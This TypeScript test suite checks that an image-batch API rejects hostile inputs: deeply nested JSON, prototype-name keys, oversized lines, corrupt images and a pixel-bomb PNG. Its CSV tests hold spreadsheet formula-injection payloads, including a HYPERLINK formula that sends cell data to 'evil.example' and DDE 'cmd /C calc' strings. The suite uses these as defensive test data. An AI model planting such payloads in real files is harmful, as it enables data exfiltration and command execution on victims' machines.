import type { AddressInfo } from 'node:net';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auth, startHarness, waitForBatch, type Harness } from '../support/harness.js';
import { nestedBrackets, streamPost } from '../support/stream-post.js';

/**
 * Issue 12, part A: what an attacker holding a key, or none, can send rendermill — deeply
 * nested JSON, formulas in ids and prompts, nulls where objects belong, catalog lines longer
 * than memory allows, images that are not what their magic bytes say — is answered with a 4xx,
 * quickly, and leaves the server serving everyone else. Real redis-server, s3rver, simulator.
 */

/** The catalog line bound of this suite: 64 KiB, so that "over the bound" stays small. */
const LINE_LIMIT_BYTES = 64 * 1024;

let h: Harness;
let origin: string;
beforeAll(async () => {
  h = await startHarness({
    simulator: { imagesPerMinute: 60_000 },
    env: { RENDERMILL_MAX_CATALOG_LINE_KB: String(LINE_LIMIT_BYTES / 1024) },
  });
  await h.api.listen({ port: 0, host: '127.0.0.1' });
  origin = `http://127.0.0.1:${(h.api.server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await h?.stop();
});

/** `[[[[…]]]]`, `levels` deep: 2 bytes a level. */
const deeplyNested = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);

interface TimedAnswer {
  status: number;
  body: string;
  ms: number;
}

async function timedGet(path: string): Promise<TimedAnswer> {
  const started = performance.now();
  const response = await fetch(`${origin}${path}`);
  return { status: response.status, body: await response.text(), ms: performance.now() - started };
}

describe('deeply nested JSON', () => {
  const hostile = nestedBrackets(10_000_000); // 20 MB, the reproduction

  it('is refused on the public /dashboard/login at once, and /healthz answers meanwhile', async () => {
    const [login, health] = await Promise.all([
      streamPost(
        `${origin}/dashboard/login`,
        {
          'content-type': 'application/json',
          'x-rendermill-csrf': '1',
        },
        hostile,
        { bodyAfterMs: 500 },
      ),
      // Sent just after: it must not wait for the login to be dealt with.
      new Promise((resolve) => setTimeout(resolve, 5)).then(() => timedGet('/healthz')),
    ]);
    console.info(`deep JSON on /dashboard/login: ${login.status} in ${login.ms.toFixed(1)} ms`);
    expect(login.status).toBe(413);
    expect(JSON.parse(login.body).error.code).toBe('body_too_large');
    // The bound is 100 ms; 1 s here leaves room for a loaded test machine while still
    // telling apart the 10 s that parsing such a body takes.
    expect(login.ms).toBeLessThan(1_000);
    expect(health.status).toBe(200);
    expect(health.ms).toBeLessThan(1_000);
  });

  it('is refused on an API route before JSON.parse sees it: 400 json_too_deep', async () => {
    const answer = await streamPost(
      `${origin}/v1/batches`,
      {
        'content-type': 'application/json',
        ...auth(),
      },
      hostile,
    );
    console.info(`deep JSON on /v1/batches: ${answer.status} in ${answer.ms.toFixed(1)} ms`);
    expect(answer.status).toBe(400);
    // Read whole (the route takes bodies up to 32 MB), refused without being parsed: the code
    // says so; the time is reported, not asserted — it is the time reading 20 MB takes here.
    expect(JSON.parse(answer.body).error).toMatchObject({ code: 'json_too_deep' });
  });

  it('takes JSON nested up to 64 levels, and counts no bracket inside a string', async () => {
    /** A batch whose metadata nests so that the whole body is `levels` deep. */
    const batchNested = (levels: number) =>
      `{"model":"dall-e-2","size":"256x256","metadata":{"deep":${deeplyNested(levels - 2)}},` +
      `"items":[{"id":"nested","prompt":"a mug"}]}`;
    const estimate = (payload: string) =>
      h.api.inject({
        method: 'POST',
        url: '/v1/batches/estimate',
        headers: { ...auth(), 'content-type': 'application/json' },
        payload,
      });
    // 64 levels are parsed — and then refused for what they say: metadata values are text.
    const atLimit = await estimate(batchNested(64));
    expect(atLimit.statusCode).toBe(400);
    expect(atLimit.json().error).toMatchObject({ code: 'invalid_request', field: 'metadata.deep' });
    const overLimit = await estimate(batchNested(65));
    expect(overLimit.statusCode).toBe(400);
    expect(overLimit.json().error.code).toBe('json_too_deep');
    const brackets = await estimate(
      JSON.stringify({
        model: 'dall-e-2',
        size: '256x256',
        metadata: { text: '[[[[{{{{\\"'.repeat(50) },
        items: [{ id: 'brackets', prompt: `a ${'{['.repeat(200)} brace` }],
      }),
    );
    expect(brackets.statusCode, brackets.body).toBe(200);
  });

  it('in an NDJSON catalog is that line’s problem, named by its line', async () => {
    const catalog = [
      JSON.stringify({ sku: 'ok', prompt: 'a mug' }),
      `{"sku":"deep","prompt":${deeplyNested(20_000)}}`,
    ].join('\n');
    const response = await h.api.inject({
      method: 'POST',
      url: '/v1/batches/estimate?model=dall-e-2&size=256x256',
      headers: { ...auth(), 'content-type': 'application/x-ndjson' },
      payload: catalog,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.details).toEqual([
      expect.objectContaining({ line: 2, message: expect.stringMatching(/deeper than 64/) }),
    ]);
  });
});

describe('formulas in manifest.csv', () => {
  it('reach the CSV manifest, from the API and in S3, as text behind an apostrophe', async () => {
    const formulaId = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const response = await h.api.inject({
      method: 'POST',
      url: '/v1/batches',
      headers: auth(),
      payload: {
        model: 'dall-e-2',
        size: '256x256',
        items: [
          { id: formulaId, prompt: 'a plain mug' },
          { id: 'plus', prompt: '+cmd|" /C calc"!A0 a mug' },
          { id: 'at', prompt: '@SUM(1+1)*cmd|" /C calc"!A0' },
          { id: '-dash', prompt: '-2+3 mugs' },
        ],
      },
    });
    expect(response.statusCode, response.body).toBe(202);
    const { id } = response.json<{ id: string }>();
    await waitForBatch(h, id);

    const api = await h.api.inject({
      method: 'GET',
      url: `/v1/batches/${id}/manifest?format=csv`,
      headers: auth(),
    });
    const stored = await h.services.storage.get(`batches/${id}/manifest.csv`);
    expect(stored).toBeDefined();
    for (const csv of [api.body, stored!.body.toString('utf8')]) {
      // Quoted (it holds quotes and a comma), its quotes doubled, the apostrophe first.
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(csv).toContain(`"'+cmd|"" /C calc""!A0 a mug"`);
      expect(csv).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
      expect(csv).toMatch(/^'-dash,/m);
      expect(csv).toContain(`,'-2+3 mugs`);
      // No cell of the file starts with a formula character.
      expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
    }
  });
});

describe('OpenAI Batch lines with nulls and prototype names', () => {
  const line = (body: Record<string, unknown>, url = '/v1/images/edits') =>
    JSON.stringify({ custom_id: 'r1', method: 'POST', url, body });
  const editBody = { model: 'gpt-image-2', prompt: 'a hat', size: '1024x1024' };

  const post = (path: string, catalog: string) =>
    h.api.inject({
      method: 'POST',
      url: path,
      headers: { ...auth(), 'content-type': 'application/x-ndjson' },
      payload: catalog,
    });

  for (const path of ['/v1/batches', '/v1/batches/estimate']) {
    for (const [name, image] of [
      ['"image": null', null],
      ['"image": [null]', [null]],
      ['"image": [null, "https://example.com/a.png"]', [null, 'https://example.com/a.png']],
      ['"image": 7', 7],
    ] as const) {
      it(`${path}: ${name} is a 400 naming body.image`, async () => {
        const response = await post(path, line({ ...editBody, image }));
        expect(response.statusCode, response.body).toBe(400);
        expect(response.json().error.details[0]).toMatchObject({ field: 'body.image', line: 1 });
      });
    }

    it(`${path}: "mask": null is a 400 naming body.mask`, async () => {
      const response = await post(
        path,
        line({ ...editBody, image: 'https://example.com/a.png', mask: null }),
      );
      expect(response.statusCode, response.body).toBe(400);
      expect(response.json().error.details[0]).toMatchObject({ field: 'body.mask' });
    });

    for (const url of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      it(`${path}: "url": "${url}" blames url`, async () => {
        const response = await post(path, line(editBody, url));
        expect(response.statusCode, response.body).toBe(400);
        expect(response.json().error.details).toEqual([
          expect.objectContaining({ field: 'url', line: 1 }),
        ]);
      });
    }
  }
});

describe('catalog lines longer than the bound', () => {
  const post = (path: string, type: string, catalog: string, query = '') =>
    h.api.inject({
      method: 'POST',
      url: `${path}?model=dall-e-2&size=256x256${query}`,
      headers: { ...auth(), 'content-type': type },
      payload: catalog,
    });
  /** One line of `bytes` bytes, no newline: a prompt of that size in a JSON object. */
  const longNdjsonLine = (bytes: number) =>
    `{"sku":"long","prompt":"${'x'.repeat(bytes - '{"sku":"long","prompt":""}'.length)}"}`;

  for (const path of ['/v1/batches/estimate', '/v1/batches']) {
    it(`${path}: an NDJSON line just over it is refused with 413 naming the line`, async () => {
      const catalog = [
        JSON.stringify({ sku: 'a', prompt: 'a mug' }),
        JSON.stringify({ sku: 'b', prompt: 'a cup' }),
        longNdjsonLine(LINE_LIMIT_BYTES + 1),
      ].join('\n');
      const response = await post(path, 'application/x-ndjson', catalog);
      expect(response.statusCode, response.body).toBe(413);
      expect(response.json().error).toMatchObject({ code: 'line_too_long', line: 3 });
      expect(response.json().error.message).toMatch(/line 3 .* longer than 65536 bytes/);
    });

    it(`${path}: a CSV line over it is refused with 413 naming the line`, async () => {
      const catalog = `sku,prompt\na,a mug\nb,${'y'.repeat(LINE_LIMIT_BYTES * 2)}\n`;
      const response = await post(path, 'text/csv', catalog);
      expect(response.statusCode, response.body).toBe(413);
      expect(response.json().error).toMatchObject({ code: 'line_too_long', line: 3 });
    });

    it(`${path}: an OpenAI Batch line over it is refused with 413 too, whatever on_invalid says`, async () => {
      const body = { model: 'dall-e-2', size: '256x256', prompt: 'z'.repeat(LINE_LIMIT_BYTES) };
      const catalog = JSON.stringify({
        custom_id: 'big',
        method: 'POST',
        url: '/v1/images/generations',
        body,
      });
      const response = await post(path, 'application/x-ndjson', catalog, '&on_invalid=skip');
      expect(response.statusCode, response.body).toBe(413);
      expect(response.json().error).toMatchObject({ code: 'line_too_long', line: 1 });
    });
  }

  it('a line at the bound is read (the bound is the longest line taken, not one less)', async () => {
    const response = await post(
      '/v1/batches/estimate',
      'application/x-ndjson',
      longNdjsonLine(LINE_LIMIT_BYTES),
    );
    // Read, parsed and refused for its prompt, which dall-e-2 caps at 1000 characters.
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().error.details[0]).toMatchObject({ field: 'prompt', line: 1 });
  });
});

/**
 * A PNG whose header says `width`×`height` — a real `width`×1 PNG with its IHDR height
 * rewritten (and its checksum with it): a few hundred bytes that declare billions of bytes of
 * pixels, as the 20000×20000 one did, without this suite spending seconds making it.
 */
async function pngDeclaring(width: number, height: number): Promise<Buffer> {
  const png = await sharp({ create: { width, height: 1, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
  // Signature (8), IHDR length (4), type (4), then width (4) and height (4); CRC over type+data.
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

describe('corrupt and oversized images on the Images API', () => {
  const garbage = Buffer.from('this is not the rest of an image '.repeat(20));
  const MAGIC = {
    png: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    jpeg: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    webp: Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 ')]),
  };
  let goodPng: Buffer;
  let goodMask: Buffer;
  beforeAll(async () => {
    goodPng = await sharp({
      create: { width: 64, height: 64, channels: 3, background: '#336699' },
    })
      .png()
      .toBuffer();
    goodMask = await sharp({
      create: { width: 64, height: 64, channels: 4, background: '#00000000' },
    })
      .png()
      .toBuffer();
  });

  async function postForm(
    endpoint: 'edits' | 'variations',
    files: { image: Buffer; mask?: Buffer },
    model: string,
  ) {
    const form = new FormData();
    form.set('model', model);
    if (endpoint === 'edits') form.set('prompt', 'hostile: a hat');
    form.set('image', new Blob([files.image], { type: 'image/png' }), 'image.png');
    if (files.mask) form.set('mask', new Blob([files.mask], { type: 'image/png' }), 'mask.png');
    const response = await fetch(`${origin}/v1/images/${endpoint}`, {
      method: 'POST',
      headers: auth(),
      body: form,
    });
    return {
      status: response.status,
      retry: response.headers.get('x-should-retry'),
      error: ((await response.json()) as { error: Record<string, unknown> }).error,
    };
  }

  for (const [format, magic] of Object.entries(MAGIC)) {
    const corrupt = Buffer.concat([magic, garbage]);
    it(`${format} magic bytes then garbage as the image: 400, param image (edits, gpt-image-2)`, async () => {
      const answer = await postForm('edits', { image: corrupt }, 'gpt-image-2');
      expect(answer.status).toBe(400);
      expect(answer.error).toMatchObject({
        type: 'invalid_request_error',
        param: 'image',
        code: 'invalid_input_image',
        message: expect.stringMatching(/cannot be read as an image/),
      });
    });

    it(`${format} magic bytes then garbage as the mask: 400, param mask (edits, gpt-image-2)`, async () => {
      const answer = await postForm('edits', { image: goodPng, mask: corrupt }, 'gpt-image-2');
      expect(answer.status).toBe(400);
      expect(answer.error).toMatchObject({ param: 'mask', code: 'invalid_input_image' });
    });
  }

  it('PNG magic bytes then garbage on variations (dall-e-2): 400, param image', async () => {
    const answer = await postForm(
      'variations',
      { image: Buffer.concat([MAGIC.png, garbage]) },
      'dall-e-2',
    );
    expect(answer.status).toBe(400);
    expect(answer.error).toMatchObject({ param: 'image', code: 'invalid_input_image' });
  });

  it('a PNG cut short after its header: 400, param image', async () => {
    const answer = await postForm('edits', { image: goodPng.subarray(0, 80) }, 'gpt-image-2');
    expect(answer.status).toBe(400);
    expect(answer.error).toMatchObject({ param: 'image', code: 'invalid_input_image' });
  });

  for (const [endpoint, model] of [
    ['edits', 'gpt-image-2'],
    ['variations', 'dall-e-2'],
  ] as const) {
    it(`a 20000x20000 PNG on ${endpoint}: 400 naming the pixel limit, param image`, async () => {
      const answer = await postForm(endpoint, { image: await pngDeclaring(20_000, 20_000) }, model);
      expect(answer.status).toBe(400);
      expect(answer.error).toMatchObject({
        param: 'image',
        code: 'invalid_input_image',
        message: expect.stringMatching(/more than 67108864 pixels/),
      });
    });
  }

  it('a 20000x20000 mask: 400, param mask', async () => {
    const answer = await postForm(
      'edits',
      { image: goodPng, mask: await pngDeclaring(20_000, 20_000) },
      'gpt-image-2',
    );
    expect(answer.status).toBe(400);
    expect(answer.error).toMatchObject({ param: 'mask', code: 'invalid_input_image' });
  });

  it('a good image and mask still go through', async () => {
    const answer = await fetch(`${origin}/v1/images/edits`, {
      method: 'POST',
      headers: auth(),
      body: (() => {
        const form = new FormData();
        form.set('model', 'gpt-image-2');
        form.set('prompt', 'hostile suite: a plain hat');
        form.set('size', '1024x1024');
        form.set('image', new Blob([goodPng], { type: 'image/png' }), 'image.png');
        form.set('mask', new Blob([goodMask], { type: 'image/png' }), 'mask.png');
        return form;
      })(),
    });
    expect(answer.status, await answer.clone().text()).toBe(200);
  });

  it('a multipart body cut off mid-part: 4xx in OpenAI’s shape, not 500', async () => {
    const boundary = 'hostileboundary';
    const body =
      `--${boundary}\r\nContent-Disposition: form-data; name="model"\r\n\r\ngpt-image-2\r\n` +
      `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\n` +
      `Content-Type: image/png\r\n\r\n\x89PNG`;
    const response = await h.api.inject({
      method: 'POST',
      url: '/v1/images/edits',
      headers: { ...auth(), 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: body,
    });
    expect(response.statusCode, response.body).toBeGreaterThanOrEqual(400);
    expect(response.statusCode, response.body).toBeLessThan(500);
    expect(response.json().error).toMatchObject({ type: 'invalid_request_error' });
  });
});
